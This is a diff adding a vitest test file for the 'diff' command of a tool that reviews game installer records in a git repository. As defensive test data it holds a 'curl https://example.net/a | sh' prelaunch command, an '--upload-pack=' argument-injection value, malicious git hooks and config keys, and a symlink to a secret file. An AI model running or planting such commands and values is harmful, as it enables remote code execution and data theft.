@@ -1,0 +1,122 @@
+import { execFileSync } from 'node:child_process';
+import { chmodSync, cpSync, existsSync, mkdirSync, readFileSync, symlinkSync, writeFileSync } from 'node:fs';
+import { join } from 'node:path';
+import { expect, test } from 'vitest';
+import { SMALL } from '../../project.ts';
+import { runCommand } from '../../run-command.ts';
+import { temporaryFolder } from '../../temporary-folder.ts';
+
+const RECORD = 'catalogue/games/o/openttd/openttd-c.yaml';
+
+test('a commit is compared with the files as they are', async () => {
+  const workingFolder = repository();
+  append(workingFolder, 'system:\n    prelaunch_command: curl https://example.net/a | sh');
+  const { code, out } = await runCommand(['diff', 'HEAD'], { workingFolder });
+  expect(code).toBe(0);
+  expect(out.split('\n').slice(0, 8).join('\n')).toContain('▲ openttd-c (installer changed)');
+  expect(out).toContain('`curl`');
+});
+
+test('two commits are compared, whatever the files are', async () => {
+  const workingFolder = repository();
+  append(workingFolder, 'system:\n    prefix_command: gamemoderun');
+  commit(workingFolder);
+  writeFileSync(join(workingFolder, RECORD), 'broken: [');
+  const { out } = await runCommand(['diff', 'HEAD~1', 'HEAD', '--format', 'json'], { workingFolder });
+  const { changes, labels } = JSON.parse(out) as {
+    changes: { name: string; points: { code: string }[] }[];
+    labels: string[];
+  };
+  expect(changes.map(({ name, points }) => [name, ...points.map(({ code }) => code)])).toEqual([
+    ['openttd-c', 'command-in-settings'],
+  ]);
+  expect(labels).toEqual(['runs commands']);
+});
+
+test('what the base branch did since is not the change of a branch', async () => {
+  const workingFolder = repository();
+  git(workingFolder, 'branch', 'side');
+  append(workingFolder, 'system:\n    prefix_command: gamemoderun');
+  commit(workingFolder);
+  git(workingFolder, 'checkout', '-q', 'side');
+  const { out: all } = await runCommand(['diff', 'main'], { workingFolder });
+  expect(all).toContain('openttd-c');
+  const { out: own } = await runCommand(['diff', 'main', '--merge-base'], { workingFolder });
+  expect(own).toBe('main → working tree\nNo difference\n');
+});
+
+test.each(['nothing', '--upload-pack=touch ran', 'HEAD:catalogue', ''])('"%s" is no commit', async (name) => {
+  const { code, error } = await runCommand(['diff', '--', name], { workingFolder: repository() });
+  expect(code).toBe(2);
+  expect(error).toContain('git knows no commit');
+});
+
+test('a folder that is no repository is refused', async () => {
+  const workingFolder = temporaryFolder({ 'catalogue/site.yaml': 'base_url: https://example.org\n' });
+  const { code } = await runCommand(['diff', 'HEAD'], { workingFolder });
+  expect(code).toBe(2);
+});
+
+test('no program of the repository is run', async () => {
+  const workingFolder = repository();
+  const program = join(workingFolder, 'program');
+  writeFileSync(program, `#!/bin/sh\ntouch "${workingFolder}/ran"\n`);
+  chmodSync(program, 0o755);
+  mkdirSync(join(workingFolder, '.git/hooks'), { recursive: true });
+  for (const hook of ['post-checkout', 'post-index-change', 'reference-transaction']) {
+    cpSync(program, join(workingFolder, '.git/hooks', hook));
+  }
+  writeFileSync(join(workingFolder, '.gitattributes'), '*.yaml diff=own filter=own\n');
+  for (const key of ['core.fsmonitor', 'diff.external', 'diff.own.command', 'diff.own.textconv', 'filter.own.clean']) {
+    git(workingFolder, 'config', key, program);
+  }
+  git(workingFolder, 'config', 'core.pager', program);
+  append(workingFolder, 'system:\n    prefix_command: gamemoderun');
+  const { out } = await runCommand(['diff', 'HEAD'], { workingFolder });
+  expect(out).toContain('openttd-c');
+  expect(existsSync(join(workingFolder, 'ran'))).toBe(false);
+});
+
+test('a repository that somebody put among the records is not used', async () => {
+  const workingFolder = repository();
+  git(workingFolder, 'clone', '-q', '--bare', '.', 'bare');
+  cpSync(join(workingFolder, 'bare'), join(workingFolder, 'catalogue'), { recursive: true });
+  expect(await runCommand(['diff', 'HEAD'], { workingFolder })).toMatchObject({ code: 2, out: '' });
+});
+
+test('a link in a commit is not followed, and what is too large is not read', async () => {
+  const workingFolder = repository();
+  writeFileSync(join(workingFolder, 'secret'), 'user: secret');
+  symlinkSync('../../../../secret', join(workingFolder, 'catalogue/games/o/openttd/openttd-link.yaml'));
+  writeFileSync(
+    join(workingFolder, 'catalogue/games/o/openttd/openttd-large.yaml'),
+    `notes: ${'x'.repeat(3_000_000)}\n`,
+  );
+  commit(workingFolder);
+  const { out } = await runCommand(['diff', 'HEAD~1', 'HEAD'], { workingFolder });
+  expect(out).not.toContain('secret');
+  expect(out.length).toBeLessThan(10_000);
+  expect(out).toContain('▲ openttd-large (installer added)');
+});
+
+function repository(): string {
+  const folder = temporaryFolder();
+  cpSync(SMALL, join(folder, 'catalogue'), { recursive: true });
+  git(folder, 'init', '-q', '-b', 'main');
+  commit(folder);
+  return folder;
+}
+
+function append(folder: string, text: string): void {
+  const file = join(folder, RECORD);
+  writeFileSync(file, `${readFileSync(file, 'utf8').trimEnd()}\n  ${text}\n`);
+}
+
+function commit(folder: string): void {
+  git(folder, 'add', '-A');
+  git(folder, '-c', 'user.name=a', '-c', 'user.email=a@example.org', 'commit', '-q', '-m', 'change');
+}
+
+function git(folder: string, ...words: string[]): void {
+  execFileSync('git', words, { cwd: folder, stdio: 'ignore' });
+}
